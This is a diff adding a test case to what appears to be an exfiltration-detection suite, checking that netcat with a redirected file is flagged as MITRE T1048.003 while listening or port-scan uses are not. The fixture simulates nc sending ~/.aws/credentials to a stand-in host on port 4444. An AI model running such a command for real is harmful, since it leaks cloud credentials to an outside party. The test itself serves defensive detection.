@@ -70,6 +70,19 @@ describe('exfiltration by command', () => {
     expect(wget.ids().get('network.exfil-http')).toEqual(['T1048.003']);
   });
 
+  it('nc with a file redirected into it is T1048.003; nc listening, or with no file, is not', () => {
+    const nc = (argv: string[], input?: string) => {
+      const t = new Trace().fork(SAMPLE, 701);
+      if (input) t.open(701, input);
+      return t.exec(701, '/bin/nc', argv).ids();
+    };
+    expect(nc(['nc', 'drop.example.test', '4444'], `${HOME}/.aws/credentials`).get('network.exfil-raw')).toEqual([
+      'T1048.003',
+    ]);
+    expect(nc(['nc', '-lp', '4444'], `${HOME}/reply.txt`).has('network.exfil-raw')).toBe(false);
+    expect(nc(['nc', '-z', 'db.example.test', '5432']).has('network.exfil-raw')).toBe(false);
+  });
+
   it.each([
     ['a download', ['-o', 'pkg.tgz', 'https://pkg.example.test/pkg.tgz']],
     ['a form field with no file', ['-d', 'name=ci', 'http://api.example.test/v1/run']],
